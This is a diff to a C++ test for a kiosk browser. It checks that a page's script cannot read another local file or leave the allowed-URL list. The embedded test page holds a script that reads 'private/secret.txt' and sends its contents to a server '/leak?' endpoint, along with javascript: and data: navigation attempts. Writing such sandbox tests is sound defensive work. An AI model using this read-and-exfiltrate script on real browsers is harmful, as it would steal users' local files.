@@ -62,26 +62,23 @@ TEST_F(KioskTest, UnderAWindowManagerToolRunStaysOverTheShowShowsTipsAndTurnsThe
 // A local page of the show, then typed addresses and pages of the server whose scripts try to
 // leave the include list.
 TEST_F(KioskTest, NoScriptReadsAnotherLocalFileOrLeavesTheIncludeListAndTypedScriptsRunNot) {
-    const std::string secret = folders_.Write("private/secret.txt", "top secret");
-    // Yellow while it tries to read the file, then magenta when it could, green when not.
-    const std::string page =
-        folders_.Write("local.html",
-                       "<body style=\"margin:0;height:100vh;background:#ffff00\"><script>"
-                       "var read = false, x = new XMLHttpRequest();"
-                       "try { x.open('GET', 'file://" +
-                           secret +
-                           "', false); x.send();"
-                           " read = x.responseText.indexOf('top secret') >= 0; } catch (e) {}"
-                           "document.body.style.background = read ? '#ff00ff' : '#00ff00';"
-                           "if (read) new Image().src = '" +
-                           server_.Url("/leak?") +
-                           "' + x.responseText;"
-                           "addEventListener('click', function () { location.href = '" +
-                           server_.Url("/outside/magenta") + "'; });</script></body>");
+    folders_.Write("private/secret.txt", "top secret");
+    // Yellow while it tries to read that file, then magenta when it could, green when not.
+    const std::string page = folders_.Write(
+        "local.html",
+        WithServer("<body style=\"margin:0;height:100vh;background:#ffff00\"><script>"
+                   "var read = false, x = new XMLHttpRequest();"
+                   "try { x.open('GET', 'private/secret.txt', false); x.send();"
+                   " read = x.responseText.indexOf('top secret') >= 0; } catch (e) {}"
+                   "document.body.style.background = read ? '#ff00ff' : '#00ff00';"
+                   "if (read) new Image().src = '{server}/leak?' + x.responseText;"
+                   "addEventListener('click', function () {"
+                   " location.href = '{server}/outside/magenta'; });</script></body>"));
     // A mouse move brings navigation mode, which lasts five minutes of idleness.
     Start("[Tessaro]\nDefaultTime=60\nOnMouseMove=1\nScreenSaveTimeOut=300\n[Page1]\nURL=" + page +
           "\n[Include1]\nURL=file://" + page +
-          "\n[Include2]\nURL={server}/go\n[Include3]\nURL={server}/jslink\n");
+          "\n[Include2]\nURL={server}/go\n[Include3]\nURL={server}/jslink\n"
+          "[Include4]\nURL={server}/blob\n");
     ASSERT_TRUE(WaitForCentre(
         [](Rgb seen) { return Near(seen, kGreen.rgb) || Near(seen, kMagenta.rgb); }, kStartUp))
         << "the local page never came on show: " << ToHex(Centre());
@@ -103,7 +100,7 @@ TEST_F(KioskTest, NoScriptReadsAnotherLocalFileOrLeavesTheIncludeListAndTypedScr
     // The page's own script makes a page of its own and goes there; the page's own "javascript:"
     // link runs, but neither takes it outside the list.
     for (const auto& [target, color] :
-         {std::pair{"/go?color=red&to=blob", kRed},
+         {std::pair{"/blob?color=red", kRed},
           {"/jslink?color=yellow&to=/outside/magenta", kYellow},
           {"/go?color=green&to=data:text/html,<b style=color:%23ff00ff>x", kGreen}}) {
         EnterAddress(server_.Url(target));
